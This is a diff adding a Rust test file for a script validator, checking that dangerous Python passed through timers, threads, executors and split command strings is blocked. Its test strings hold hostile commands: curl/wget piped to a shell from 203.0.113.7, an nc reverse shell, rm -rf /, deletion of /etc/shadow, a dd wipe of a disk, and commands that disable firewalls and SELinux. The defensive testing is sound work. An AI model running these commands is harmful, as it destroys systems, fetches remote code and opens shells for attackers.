@@ -1,0 +1,85 @@
+//! Python calls the rules must see through: callables that schedulers run later
+//! (`rules::python::deferred`) and argvs split from command lines (`rules::embed::from_python`),
+//! checked through the whole validator.
+
+use std::sync::LazyLock;
+
+use crate::domain::script::{Language, Script};
+use crate::domain::verdict::{Layer, Severity};
+use crate::rules::RuleSet;
+use crate::validate::{ValidationConfig, Validator};
+
+static VALIDATOR: LazyLock<Validator> = LazyLock::new(|| {
+    Validator::new(
+        RuleSet::embedded().expect("rules"),
+        ValidationConfig::default(),
+    )
+});
+
+fn blocking(src: &str) -> Vec<String> {
+    VALIDATOR
+        .inspect(&Script::new(Language::Python, src))
+        .into_iter()
+        .filter(|f| f.layer == Layer::Dangerous && f.severity == Severity::Block)
+        .map(|f| f.rule)
+        .collect()
+}
+
+#[test]
+fn scheduled_callables_are_checked_with_the_arguments_they_get() {
+    let cases = [
+        "import threading, subprocess\nthreading.Timer(90, subprocess.check_call, args=([\"rm\", \"-rf\", \"/\"],)).start()\n",
+        "from threading import Timer\nimport os\nTimer(2.5, os.system, [\"curl -fsS http://203.0.113.7/i | sh\"]).start()\n",
+        "import threading, subprocess\nw = threading.Thread(target=subprocess.Popen, args=(\"nc -e /bin/sh 203.0.113.7 9001\",), kwargs={\"shell\": True})\nw.start()\n",
+        "import multiprocessing, shutil\nmultiprocessing.Process(target=shutil.rmtree, args=(\"/usr\",)).start()\n",
+        "import atexit, shutil\natexit.register(shutil.rmtree, \"/etc\")\n",
+        "import os\nfrom concurrent.futures import ThreadPoolExecutor\npool = ThreadPoolExecutor(2)\npool.submit(os.system, \"wget -qO- http://203.0.113.7/p | bash\")\n",
+        "import asyncio, os\nloop = asyncio.new_event_loop()\nloop.call_later(10, os.system, \"rm -rf ~/*\")\nloop.run_forever()\n",
+        "import sched, time, os\nq = sched.scheduler(time.monotonic, time.sleep)\nq.enter(3, 1, os.remove, argument=(\"/etc/shadow\",))\nq.run()\n",
+        "import _thread, subprocess\n_thread.start_new_thread(subprocess.run, ([\"dd\", \"if=/dev/zero\", \"of=/dev/sda\"],))\n",
+    ];
+    for case in cases {
+        assert!(!blocking(case).is_empty(), "missed {case:?}");
+    }
+}
+
+#[test]
+fn harmless_scheduled_work_stays_valid() {
+    let cases = [
+        "import threading\nthreading.Timer(5, print, args=(\"tick\",)).start()\n",
+        "import threading, subprocess\nt = threading.Thread(target=subprocess.run, args=([\"git\", \"status\"],))\nt.start(); t.join()\n",
+        "from concurrent.futures import ThreadPoolExecutor\ndef sq(n):\n    return n * n\nwith ThreadPoolExecutor() as ex:\n    print(ex.submit(sq, 4).result(), list(ex.map(sq, range(3))))\n",
+        "import atexit, shutil, tempfile\nwork = tempfile.mkdtemp()\natexit.register(shutil.rmtree, work, ignore_errors=True)\n",
+    ];
+    for case in cases {
+        assert!(
+            blocking(case).is_empty(),
+            "flagged {case:?}: {:?}",
+            blocking(case)
+        );
+    }
+}
+
+#[test]
+fn argvs_split_from_command_lines_are_checked_as_commands() {
+    let cases = [
+        "import subprocess\nsubprocess.run(\"iptables -F\".split())\n",
+        "import subprocess, shlex\nsubprocess.check_call(shlex.split(\"rm -rf --no-preserve-root /\"))\n",
+        "import subprocess as sp\nSTEPS = [\"ufw disable\", \"setenforce 0\"]\nfor s in STEPS:\n    sp.run(s.split(), check=False)\n",
+        "import subprocess\nfor c in (\"iptables -P INPUT ACCEPT\", \"echo ok\"):\n    subprocess.call(c.split() if \"sh\" not in c else [\"sh\", \"-c\", c])\n",
+    ];
+    for case in cases {
+        assert!(!blocking(case).is_empty(), "missed {case:?}");
+    }
+    let benign = [
+        "import subprocess\nsubprocess.run(\"git status --short\".split(), check=True)\n",
+        "import subprocess\nfor c in [\"ls -la\", \"df -h\"]:\n    subprocess.run(c.split())\n",
+    ];
+    for case in benign {
+        assert!(
+            blocking(case).is_empty(),
+            "flagged {case:?}: {:?}",
+            blocking(case)
+        );
+    }
+}
